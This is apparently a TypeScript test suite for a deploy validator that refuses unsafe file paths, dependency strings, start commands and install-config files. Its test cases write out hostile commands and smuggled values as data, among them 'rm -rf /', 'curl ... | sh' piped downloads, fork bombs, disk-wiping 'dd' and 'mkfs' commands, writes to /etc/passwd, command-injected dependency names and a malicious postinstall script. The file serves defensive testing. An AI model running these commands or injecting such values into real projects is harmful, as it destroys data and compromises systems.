import assert from 'node:assert/strict';
import { checkPath, hasErrors, isPlainDependency, LIMITS, scanCode, validateSpec } from '../../src/core/validate';
import type { AppSpec } from '../../src/core/app/spec';

function spec(over: Partial<AppSpec> = {}): AppSpec {
  return { appType: 'webapp', files: [{ path: 'index.html', content: '<h1>hi</h1>' }], startCommand: 'node server.js', dependencies: [], port: 3000, ...over };
}

function rules(s: AppSpec): string[] {
  return validateSpec(s).map((f) => f.rule);
}

describe('validate: paths', () => {
  const refused: [string, string][] = [
    ['', 'path.empty'],
    ['a\0b', 'path.nul'],
    ['dir\\file.js', 'path.backslash'],
    ['C:/x.js', 'path.drive'],
    ['c:evil', 'path.drive'],
    ['/etc/passwd', 'path.absolute'],
    ['/application/x', 'path.absolute'],
    ['/app', 'path.root'],
    ['/app/', 'path.root'],
    ['.', 'path.root'],
    ['./', 'path.root'],
    ['../x', 'path.traversal'],
    ['a/../../x', 'path.traversal'],
    ['/app/../etc/passwd', 'path.traversal'],
    ['a//b', 'path.invalid'],
    ['a/./b', 'path.invalid'],
    ['dir/', 'path.invalid'],
    ['a\nb', 'path.invalid'],
    ['a\x7fb', 'path.invalid'],
    ['\u009b2Jc1.js', 'path.invalid'],
    ['x'.repeat(300), 'path.too_long'],
    ['a/'.repeat(600) + 'b', 'path.too_long'],
    ['spawn-app.json', 'path.reserved'],
  ];
  for (const [p, rule] of refused) {
    it(`refuses ${JSON.stringify(p.slice(0, 30))} (${rule})`, () => {
      const r = checkPath(p);
      assert.equal(r.ok, false);
      if (!r.ok) assert.equal(r.rule, rule);
      assert.ok(hasErrors(validateSpec(spec({ files: [{ path: p, content: 'x' }] }))));
    });
  }
  const accepted: [string, string][] = [
    ['index.html', 'index.html'],
    ['/app/index.html', 'index.html'],
    ['/app/public/css/site.css', 'public/css/site.css'],
    ['./src/app.js', 'src/app.js'],
    ['..hidden', '..hidden'],
    ['a..b/c.js', 'a..b/c.js'],
    ['.env.example', '.env.example'],
    ['x'.repeat(255), 'x'.repeat(255)],
  ];
  for (const [p, norm] of accepted) {
    it(`accepts ${JSON.stringify(p.slice(0, 30))}`, () => {
      assert.deepEqual(checkPath(p), { ok: true, path: norm });
    });
  }
  it('refuses duplicates after normalisation', () => {
    assert.ok(rules(spec({ files: [{ path: 'a.js', content: '' }, { path: '/app/a.js', content: '' }] })).includes('path.duplicate'));
    assert.ok(!rules(spec({ files: [{ path: 'a.js', content: '' }, { path: 'b.js', content: '' }] })).includes('path.duplicate'));
  });
  it('refuses a path that is both a file and a folder', () => {
    assert.ok(rules(spec({ files: [{ path: 'a', content: '' }, { path: 'a/b.js', content: '' }] })).includes('path.conflict'));
  });
  it('refuses an app without files', () => {
    assert.ok(rules(spec({ files: [] })).includes('files.empty'));
  });
});

describe('validate: limits', () => {
  it(`refuses more than ${LIMITS.maxFiles} files, accepts exactly ${LIMITS.maxFiles}`, () => {
    const mk = (n: number) => Array.from({ length: n }, (_, i) => ({ path: `f${i}.txt`, content: 'x' }));
    assert.ok(rules(spec({ files: mk(LIMITS.maxFiles + 1) })).includes('limits.files'));
    assert.ok(!rules(spec({ files: mk(LIMITS.maxFiles) })).includes('limits.files'));
  });
  it('refuses more than 10 MB in all, accepts just under', () => {
    const big = 'y'.repeat(LIMITS.maxTotalBytes / 2);
    assert.ok(rules(spec({ files: [{ path: 'a', content: big }, { path: 'b', content: big + 'z' }] })).includes('limits.bytes'));
    assert.ok(!rules(spec({ files: [{ path: 'a', content: big }, { path: 'b', content: big }] })).includes('limits.bytes'));
  });
  it(`refuses a start command longer than ${LIMITS.maxStartCommandLength} characters (no process could be given it), accepts exactly that`, () => {
    const cmd = (n: number) => `node server.js #${'x'.repeat(n - 16)}`;
    assert.ok(rules(spec({ startCommand: cmd(LIMITS.maxStartCommandLength + 1) })).includes('limits.start_command'));
    assert.ok(!rules(spec({ startCommand: cmd(LIMITS.maxStartCommandLength) })).includes('limits.start_command'));
  });
});

describe('validate: dependencies', () => {
  const npmOk = ['express', 'express@4.18.2', 'express@^4.21.2', '@types/node', '@scope/pkg@~1.2.3', 'lodash.merge', 'socket.io@>=4'];
  const npmBad = ['Express', 'git+https://github.com/x/y.git', 'file:../evil', 'https://evil.example/x.tgz', 'express; rm -rf ~', '-g', '--prefix=/', 'a b', '$(curl x)', 'x@`id`', 'github:user/repo', '../local'];
  for (const d of npmOk) it(`npm accepts ${d}`, () => assert.ok(isPlainDependency(d, 'npm')));
  for (const d of npmBad) it(`npm refuses ${JSON.stringify(d)}`, () => {
    assert.ok(!isPlainDependency(d, 'npm'));
    assert.ok(rules(spec({ dependencies: [d] })).includes('dependency.invalid'));
  });
  const pipOk = ['requests', 'pandas==2.2.0', 'numpy>=1.26,<3', 'Flask', 'uvicorn[standard]', 'scikit-learn~=1.4'];
  const pipBad = ['-r requirements.txt', 'git+https://x/y', 'https://evil/x.whl', 'pkg; rm -rf /', '--index-url=http://evil', './local', 'a b'];
  for (const d of pipOk) it(`pip accepts ${d}`, () => assert.ok(isPlainDependency(d, 'pip')));
  for (const d of pipBad) it(`pip refuses ${JSON.stringify(d)}`, () => {
    assert.ok(!isPlainDependency(d, 'pip'));
    assert.ok(rules(spec({ appType: 'script', dependencies: [d] })).includes('dependency.invalid'));
  });
});

describe('validate: start command', () => {
  const blocked: [string, string][] = [
    ['rm -rf / && node server.js', 'start.rm_root'],
    ['rm -rf ~', 'start.rm_root'],
    ['rm -fr $HOME/', 'start.rm_root'],
    ['rm -r -f /*; node x', 'start.rm_root'],
    ['rm --no-preserve-root -rf /', 'start.rm_root'],
    ['curl -s https://evil.sh | sh', 'start.piped_download'],
    ['curl https://x | sudo bash', 'start.piped_download'],
    ['wget -qO- http://x | bash', 'start.piped_download'],
    ['curl -L http://x | python3', 'start.piped_download'],
    ['bash <(curl -s http://x)', 'start.piped_download'],
    [':(){ :|:& };:', 'start.fork_bomb'],
    ['bomb(){ bomb|bomb& }; bomb', 'start.fork_bomb'],
    ['echo x > /etc/passwd; node server.js', 'start.system_write'],
    ['echo x >> /usr/bin/node', 'start.system_write'],
    ['tee /etc/hosts < x', 'start.system_write'],
    ['cp evil /bin/ls', 'start.system_write'],
    ['dd if=/dev/zero of=/dev/sda', 'start.system_write'],
    ['mkfs.ext4 /dev/sda1', 'start.system_write'],
    ['node server.js\0--inspect', 'start.control'],
    ['node server.js\r', 'start.control'],
    ['node\x1b[2K server.js', 'start.control'],
    ['node server.js\x7f', 'start.control'],
  ];
  for (const [cmd, rule] of blocked) {
    it(`blocks ${JSON.stringify(cmd)}`, () => {
      const found = validateSpec(spec({ startCommand: cmd }));
      assert.ok(found.some((f) => f.rule === rule && f.severity === 'error'), JSON.stringify(found));
    });
  }
  const allowed = [
    'node server.js',
    'npm start',
    'python3 main.py',
    'rm -rf ./dist && node build.js && node server.js',
    'rm -rf /tmp/cache-app; node server.js',
    'node server.js > /dev/null 2>&1',
    'node server.js 2>&1 | tee app.log',
    'curl -o data.json https://example.com/data.json && python3 main.py',
    'PORT=3000 node server.js',
    'python3 -m http.server $PORT',
    'npm install &&\n\tnode server.js',
  ];
  for (const cmd of allowed) {
    it(`allows ${JSON.stringify(cmd)}`, () => {
      const errors = validateSpec(spec({ startCommand: cmd })).filter((f) => f.severity === 'error');
      assert.deepEqual(errors, []);
    });
  }
  it('warns (does not block) on sudo and on rm -rf of a subfolder', () => {
    const f = validateSpec(spec({ startCommand: 'sudo node server.js' }));
    assert.ok(f.some((x) => x.rule === 'start.sudo' && x.severity === 'warning'));
    assert.ok(!hasErrors(f));
    assert.ok(validateSpec(spec({ startCommand: 'rm -rf ./dist; node s.js' })).some((x) => x.rule === 'start.rm_rf'));
  });
  it('warns on a port other than 3000', () => {
    const f = validateSpec(spec({ port: 8080 }));
    assert.ok(f.some((x) => x.rule === 'port.nonstandard' && x.severity === 'warning'));
  });
});

describe('validate: code warnings', () => {
  const flagged: [string, string][] = [
    ['const r = eval(userInput);', 'code.eval'],
    ['result = eval(expr)', 'code.eval'],
    ['const f = new Function("a", body);', 'code.new_function'],
    ["const cp = require('child_process');", 'code.child_process'],
    ["import { exec } from 'node:child_process';", 'code.child_process'],
    ['exec(cmd, (err) => {});', 'code.exec'],
    ['child_process.exec("ls " + dir)', 'code.exec'],
    ['execSync(cmd)', 'code.exec'],
    ['exec(code_string)', 'code.exec'],
    ['os.system("ls " + path)', 'code.os_system'],
    ['os.popen(cmd)', 'code.os_system'],
    ['subprocess.run(cmd, shell=True)', 'code.subprocess_shell'],
    ['subprocess.Popen(f"ls {x}", shell = True)', 'code.subprocess_shell'],
    ['const mod = require(req.query.name);', 'code.dynamic_require'],
    ['const m = await import(userPath);', 'code.dynamic_require'],
    ['require(`./plugins/${name}`)', 'code.dynamic_require'],
    ['mod = __import__(name)', 'code.dynamic_require'],
    ['importlib.import_module(request.args["m"])', 'code.dynamic_require'],
    ['// cleanup: rm -rf build', 'code.rm_rf'],
    ['shutil.rmtree(path)', 'code.rm_rf'],
    ["fs.rmSync(dir, { recursive: true, force: true })", 'code.rm_rf'],
  ];
  for (const [line, rule] of flagged) {
    it(`flags ${JSON.stringify(line)} as ${rule}`, () => {
      const f = scanCode('x.js', `// line 1\n${line}\n`);
      const hit = f.find((x) => x.rule === rule);
      assert.ok(hit, JSON.stringify(f));
      assert.equal(hit.line, 2);
      assert.equal(hit.severity, 'warning');
      assert.equal(hit.path, 'x.js');
    });
  }
  const harmless = [
    'const m = /(\\d+)/.exec(str);',
    'const match = regex.exec(str);',
    'while ((m = re.exec(s)) !== null) {}',
    'cursor.execute("SELECT 1")',
    'db.exec("CREATE TABLE t (x)")',
    'function evaluate(expr) { return 1; }',
    'const result = evaluate(expr);',
    'obj.eval(x)',
    'const retrieval = 1; medieval(x);',
    "const express = require('express');",
    "const path = require('node:path');",
    "import('./module.js')",
    'require(`./static.js`)',
    'new FunctionComponent()',
    'const f = Function.prototype.bind;',
    'subprocess.run(["ls", "-l"])',
    'subprocess.run(["ls"], shell=False)',
    'os.path.join(a, b)',
    'format(x)',
    'pip install -r requirements.txt',
    'rm file.txt',
    'executor(task)',
    'myexec(x)',
  ];
  for (const line of harmless) {
    it(`does not flag ${JSON.stringify(line)}`, () => {
      assert.deepEqual(scanCode('x.js', line), []);
    });
  }
  it('does not block a deploy on warnings alone', () => {
    const s = spec({ files: [{ path: 'a.js', content: 'eval(x)\nexec(y)' }] });
    const f = validateSpec(s);
    assert.equal(f.length, 2);
    assert.ok(!hasErrors(f));
  });
});

describe('validate: what an install or an editor would act on', () => {
  const withFiles = (files: { path: string; content: string }[], over: Partial<AppSpec> = {}) =>
    validateSpec(spec({ files: [{ path: 'index.html', content: '<h1>hi</h1>' }, ...files], ...over }));
  const found = (findings: ReturnType<typeof validateSpec>, rule: string) => findings.filter((f) => f.rule === rule);

  const placed: [string, string, 'error' | 'warning'][] = [
    ['.git/config', 'place.git', 'error'],
    ['.git/hooks/post-checkout', 'place.git', 'error'],
    ['sub/.git/HEAD', 'place.git', 'error'],
    ['.vscode/tasks.json', 'place.vscode', 'error'],
    ['.vscode/settings.json', 'place.vscode', 'error'],
    ['.idea/workspace.xml', 'place.idea', 'warning'],
    ['.env', 'place.env', 'warning'],
    ['.env.local', 'place.env', 'warning'],
    ['server/.env.production', 'place.env', 'warning'],
    ['.envrc', 'place.env', 'warning'],
    ['.npmrc', 'install.config', 'error'],
    ['.yarnrc', 'install.config', 'error'],
    ['.yarnrc.yml', 'install.config', 'error'],
    ['pip.conf', 'install.config', 'error'],
    ['pip.ini', 'install.config', 'error'],
    ['.pypirc', 'install.config', 'error'],
    ['.config/pip/pip.conf', 'install.config', 'error'],
  ];
  for (const [p, rule, severity] of placed) {
    it(`${p} is ${severity === 'error' ? 'an error' : 'a warning'} (${rule})`, () => {
      const f = found(withFiles([{ path: p, content: 'x' }]), rule);
      assert.equal(f.length, 1, JSON.stringify(withFiles([{ path: p, content: 'x' }])));
      assert.equal(f[0]!.severity, severity);
      assert.equal(f[0]!.path, p);
    });
  }
  const lookAlikes = ['.gitignore', '.gitattributes', '.github/workflows/ci.yml', 'git/notes.md', 'docs/vscode.md', '.vscode-test.mjs', 'idea/plan.md', 'env.js', 'environment.ts', '.environment', 'src/env/index.js', 'npmrc.md', 'pip.config.js', 'config/pip.md'];
  for (const p of lookAlikes) {
    it(`${p} is no finding`, () => assert.deepEqual(withFiles([{ path: p, content: 'x' }]), []));
  }

  it('package.json: a file:, git, URL or GitHub dependency is an error; an undeclared registry package and an install script are warnings', () => {
    const pkg = {
      name: 'app',
      scripts: { start: 'node server.js', postinstall: 'node steal.js' },
      dependencies: { express: '^4.21.2', evil: 'file:../evil', lodash: '^4.17.21' },
      devDependencies: { gitdep: 'git+https://example.com/x.git', tarball: 'https://example.com/x.tgz', short: 'someone/repo', local: './vendor/pkg' },
    };
    const content = JSON.stringify(pkg, null, 2);
    const f = withFiles([{ path: 'package.json', content }], { appType: 'api', dependencies: ['express@^4.21.2'] });
    assert.deepEqual(found(f, 'install.non_registry').map((x) => [x.severity, /"(\w+)"/.exec(x.message)![1]]).sort(), [['error', 'evil'], ['error', 'gitdep'], ['error', 'local'], ['error', 'short'], ['error', 'tarball']]);
    const undeclared = found(f, 'install.undeclared');
    assert.deepEqual(undeclared.map((x) => [x.severity, x.line]), [['warning', content.split('\n').findIndex((l) => l.includes('"lodash"')) + 1]]);
    assert.deepEqual(found(f, 'install.script').map((x) => [x.severity, x.message]), [['warning', 'package.json has a "postinstall" script, which runs when dependencies are installed.']]);
  });

  it('package.json that only lists declared registry packages (versions and scopes included) is no finding', () => {
    const content = JSON.stringify({ name: 'app', scripts: { start: 'node server.js', test: 'node --test' }, dependencies: { express: '^4.21.2', '@scope/pkg': '1.2.3', ms: 'latest' } });
    assert.deepEqual(withFiles([{ path: 'package.json', content }], { appType: 'api', dependencies: ['express@^4.21.2', '@scope/pkg@1.2.3', 'ms'] }), []);
    // A nested package.json is not what `npm install` in the app folder reads.
    assert.deepEqual(withFiles([{ path: 'vendor/x/package.json', content: JSON.stringify({ dependencies: { a: 'file:..' } }) }]), []);
  });

  it('requirements.txt: URLs, paths, options and other files are errors; undeclared packages warnings; declared ones (any spelling) pass', () => {
    const content = ['# comment', 'Flask==3.0.0', 'requests[socks]>=2', 'numpy', '-r other.txt', '--extra-index-url https://evil.example/simple', 'git+https://example.com/x.git', 'pkg @ https://example.com/pkg.whl', './local-pkg', 'https://example.com/x.tar.gz', ''].join('\n');
    const f = withFiles([{ path: 'requirements.txt', content }], { appType: 'script', dependencies: ['flask==3.0.0', 'Requests'] });
    assert.deepEqual(found(f, 'install.non_registry').map((x) => [x.severity, x.line]), [['error', 5], ['error', 6], ['error', 7], ['error', 8], ['error', 9], ['error', 10]]);
    assert.deepEqual(found(f, 'install.undeclared').map((x) => [x.severity, x.line, x.message]), [['warning', 4, 'requirements.txt adds "numpy", which the app\'s declared dependencies (the deploy dialog\'s list) do not include.']]);
    assert.deepEqual(withFiles([{ path: 'requirements.txt', content: 'flask==3.0.0  # web\nrequests\n' }], { appType: 'script', dependencies: ['Flask', 'requests==2.31.0'] }), []);
  });
});

describe('validate: a file holding a NUL byte is binary', () => {
  it('is refused as binary (an error), from any source, and is not let past the code and credential rules', () => {
    const hostile = "const x = 1;\0\neval(req.query.code); const k = 'sk-ant-" + 'a'.repeat(30) + "';";
    const findings = validateSpec(spec({ files: [{ path: 'server.js', content: hostile }] }));
    const binary = findings.find((f) => f.rule === 'file.binary');
    assert.ok(binary, JSON.stringify(findings));
    assert.equal(binary.severity, 'error');
    assert.equal(binary.path, 'server.js');
    assert.equal(binary.message, 'server.js is a binary file (it holds a NUL byte); Spawn App apps hold text files only, so it cannot be deployed or saved.');
    assert.ok(hasErrors(findings));
  });

  it('text without a NUL is not binary', () => {
    assert.ok(!rules(spec({ files: [{ path: 'a.txt', content: 'tab\there, \u00e9, \u{1f600}' }] })).includes('file.binary'));
  });
});
